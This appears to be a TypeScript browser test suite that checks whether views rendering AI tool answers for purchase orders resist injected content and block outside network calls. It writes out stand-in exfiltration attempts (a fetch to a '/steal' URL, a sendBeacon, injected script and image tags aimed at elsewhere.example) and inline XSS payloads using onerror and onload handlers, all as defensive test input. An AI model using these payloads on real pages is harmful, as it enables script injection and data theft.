// What others wrote reaches a view as text: every string of every answer is hostile here, and nothing runs or loads.
import type { Client } from '@modelcontextprotocol/client'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { tools } from '#tools/index.ts'
import { smallHost } from '../mcp/host.ts'
import { ownHostile, sharedHostile } from '../web/hostile-strings.ts'
import { launchBrowser } from './chromium.ts'
import { clientOf, showView, type ViewOptions } from './view-host.ts'
import { answers } from './view-answers.ts'

const strings = [...ownHostile, ...(sharedHostile() ?? [])].filter((text) => text !== '')
let at = 0
let browser: Browser
let client: Client

/** The answer with every string but days replaced by the next hostile one, and lists eight times as long; a currency is a code, no text. */
function poisoned(value: unknown): unknown {
  if (typeof value === 'string') {
    return /^\d{4}-\d{2}-\d{2}$/.test(value) ? value : strings[at++ % strings.length]
  }
  if (Array.isArray(value)) {
    return Array.from({ length: 8 }, () => value.map(poisoned)).flat()
  }
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => [key, key === 'currency' ? each : poisoned(each)]),
  )
}

const host = {
  ...smallHost,
  tools,
  runFor: () =>
    ((_: string, { name }: { name: string }) => Promise.resolve(poisoned(answers[name]))) as never,
}

beforeAll(async () => {
  client = await clientOf(host)
  browser = await launchBrowser()
})

afterAll(async () => {
  await browser?.close()
  await client?.close()
})

const asked: ViewOptions[] = [
  { tool: 'recommend_reorders' },
  { tool: 'recommend_reorders', input: { show: 'withheld' } },
  { tool: 'get_purchase_order' },
  { tool: 'draft_purchase_order', input: { due: true } },
  { tool: 'approve_purchase_order', input: { order: 'PO-1' } },
  { tool: 'simulate_disruption', input: { kind: 'tariff', percent: 20 } },
]

test('every hostile string through every field of every view: no script runs, nothing is loaded, nothing had to be refused', async () => {
  do {
    for (const options of asked) {
      const { view, heard, close } = await showView(browser, client, options)
      for (const button of (await view.locator('td button').all()).slice(0, 3)) await button.click()
      expect(await view.locator('article, tbody tr').count()).toBeGreaterThan(0)
      expect(await view.evaluate('window.broken')).toBeUndefined()
      const foreign =
        'a, img, iframe, object, embed, form, svg, video, audio, link, base, [style*="url"]'
      expect(await view.locator(`body :is(${foreign})`).count()).toBe(0)
      expect([heard.elsewhere, heard.faults]).toEqual([[], []])
      await close()
    }
  } while (at < strings.length)
}, 300_000)

test.each([true, false])(
  'the network is closed, with the policy of the host (%s) and with that of the page alone',
  async (hostPolicy) => {
    const { view, heard, close } = await showView(browser, client, { ...asked[0]!, hostPolicy })
    const outcome = await view.evaluate(`
      fetch('http://elsewhere.example/steal').then(() => 'answered', () => 'refused')`)
    expect(outcome).toBe('refused')
    await view.evaluate(`{
      for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href']]) {
        const made = document.createElement(tag)
        if (tag === 'link') made.rel = 'stylesheet'
        made.setAttribute(name, 'http://elsewhere.example/' + tag)
        document.body.append(made)
      }
      navigator.sendBeacon('http://elsewhere.example/beacon', 'x')
    }`)
    await view.waitForTimeout(300)
    expect(heard.elsewhere).toEqual([])
    expect(heard.faults.join('\n')).toContain('Content Security Policy')
    await close()
  },
)

test('the page itself is the last wall: markup that got in anyway runs nothing', async () => {
  const { view, heard, close } = await showView(browser, client, {
    ...asked[0]!,
    hostPolicy: false,
  })
  await view.evaluate(`
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.broken=1"><svg onload="window.broken=1"></svg>')`)
  await view.evaluate(
    `{ const s = document.createElement('script'); s.textContent = 'window.broken=1'; document.body.append(s) }`,
  )
  await view.waitForTimeout(300)
  expect(await view.evaluate('window.broken')).toBeUndefined()
  expect(heard.elsewhere).toEqual([])
  await close()
})
